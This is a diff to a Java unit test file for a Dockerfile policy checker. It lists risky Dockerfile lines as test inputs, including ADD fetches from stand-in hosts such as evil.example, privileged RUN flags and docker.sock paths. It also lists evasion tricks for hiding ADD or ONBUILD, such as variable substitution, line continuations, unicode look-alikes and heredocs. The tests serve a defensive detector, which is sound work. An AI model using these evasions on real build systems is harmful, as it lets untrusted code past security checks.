@@ -41,14 +41,18 @@ class DockerfileRulesTest {
         "FROM python AS a\\nFROM ghcr.io/x/y AS b\\nFROM a\\nUSER 1000 | dockerfile.base-image",
         "FROM python\\nCOPY --from=evil/tools:1 /x /y\\nUSER 1000 | dockerfile.copy-from",
         "FROM python\\nCOPY --from=0 /x /y\\nUSER 1000 | dockerfile.copy-from",
-        "FROM python\\nADD https://evil.example/x.tgz /x\\nUSER 1000 | dockerfile.add-url",
-        "FROM python\\nADD --chown=1 git@github.com:x/y.git /x\\nUSER 1000 | dockerfile.add-url",
-        "FROM python\\nADD [\"ftp://evil/x\", \"/x\"]\\nUSER 1000 | dockerfile.add-url",
+        "FROM python\\nADD https://evil.example/x.tgz /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nADD --chown=1 git@github.com:x/y.git /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nADD [\"ftp://evil/x\", \"/x\"]\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nadd local.tar /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nONBUILD RUN true\\nUSER 1000 | dockerfile.onbuild",
+        "FROM python\\nVOLUME /scratch\\nUSER 1000 | dockerfile.volume",
+        "FROM python\\nvolume [\"/a\", \"/b\"]\\nUSER 1000 | dockerfile.volume",
         "FROM python\\nRUN --network=host pip install x\\nUSER 1000 | dockerfile.run-flag",
         "FROM python\\nRUN --security=insecure true\\nUSER 1000 | dockerfile.run-flag",
         "FROM python\\nRUN --mount=type=secret,id=x cat /run/secrets/x\\nUSER 1000 | dockerfile.run-flag",
         "FROM python\\nRUN \\\\n  --privileged true\\nUSER 1000 | dockerfile.run-flag",
-        "FROM python\\nVOLUME /var/run/docker.sock\\nUSER 1000 | dockerfile.docker-sock",
+        "FROM python\\nCOPY x /var/run/docker.sock\\nUSER 1000 | dockerfile.docker-sock",
         "FROM python | dockerfile.user",
         "FROM python\\nUSER root | dockerfile.user",
         "FROM python\\nUSER 0:0 | dockerfile.user",
@@ -60,6 +64,43 @@ class DockerfileRulesTest {
     })
     void violations(String dockerfile, String expected) {
         assertThat(ids(dockerfile.replace("\\n", "\n"))).containsExactly(expected);
+    }
+
+    /** Ways to hide ADD (a URL fetched by the daemon on the host's network) or ONBUILD from a literal check. */
+    @ParameterizedTest
+    @CsvSource(delimiter = '|', value = {
+        "ARG S=http\\nFROM python\\nADD ${S}://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nARG S=http\\nENV U=${S}://127.0.0.1:9/x\\nADD $U /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nADD \"http\"://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nADD [^h\\u0074tp://127.0.0.1:9/x^, ^/x^]\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nAD\\\\nD http://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\n  \\\\n\\nADD \\\\n  # hidden\\n  http://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.add",
+        "# escape=`\\nFROM python\\nAD`\\nD http://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.add",
+        "FROM python\\nONBUILD ADD http://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.onbuild",
+        "FROM python\\nonbuild \\\\n add http://127.0.0.1:9/x /x\\nUSER 1000 | dockerfile.onbuild",
+        "FROM python\\nRUN <<EOF\\nADD http://127.0.0.1:9/x /x\\nEOF\\nUSER 1000 | dockerfile.add",
+    })
+    void hiddenAddAndOnbuild(String dockerfile, String expected) {
+        String text = dockerfile.replace("\\n", "\n").replace('^', '"');
+        assertThat(ids(text)).as(text).contains(expected);
+    }
+
+    @Test
+    void keywordsTheEngineReadsDifferentlyAreRefused() {
+        // a byte order mark is dropped by the engine: the first FROM is still checked
+        assertThat(ids("\uFEFFFROM ghcr.io/evil/x AS a\nFROM python\nUSER 1000\n")).containsExactly("dockerfile.base-image");
+        // Go lower-cases U+0130 to 'i', so the engine reads ONBUİLD as onbuild; NBSP is trimmed by the engine
+        assertThat(ids("FROM python\nONBU\u0130LD ADD http://x/y /y\nUSER 1000\n")).containsExactly("dockerfile.parse");
+        assertThat(ids("FROM python\n\u00A0ADD http://x/y /y\nUSER 1000\n")).containsExactly("dockerfile.parse");
+    }
+
+    @Test
+    void imagesTheBuildNamesAreReturnedWithoutStages() {
+        DockerfileRules.Analysis a = new DockerfileRules(SubmissionProperties.DEFAULT_BASE_IMAGES, Map.of("B", "debian:12"))
+                .analyse("ARG B=python:3\nFROM ${B} AS build\nFROM subnet2-base/jre:17\n"
+                        + "COPY --from=build /a /a\nCOPY --from=subnet2-base/python:3 /b /b\nUSER 1000\n");
+        assertThat(a.violations()).isEmpty();
+        assertThat(a.images()).containsExactly("debian:12", "subnet2-base/jre:17", "subnet2-base/python:3");
     }
 
     @Test
@@ -93,6 +134,12 @@ class DockerfileRulesTest {
         assertThat(ins).extracting(DockerfileParser.Instruction::keyword).containsExactly("FROM", "RUN", "USER");
         assertThat(ins.get(1).args()).contains("echo a").contains("&& echo b").doesNotContain("comment");
         assertThat(ins.get(2).line()).isEqualTo(6);
+        // the engine joins continued lines without a separator
+        assertThat(DockerfileParser.parse("FROM python\nRUN echo a\\\n  b\nAD\\\nD x y\n"))
+                .extracting(DockerfileParser.Instruction::keyword, DockerfileParser.Instruction::args)
+                .containsExactly(org.assertj.core.groups.Tuple.tuple("FROM", "python"),
+                        org.assertj.core.groups.Tuple.tuple("RUN", "echo a  b"),
+                        org.assertj.core.groups.Tuple.tuple("ADD", "x y"));
     }
 
     @Test
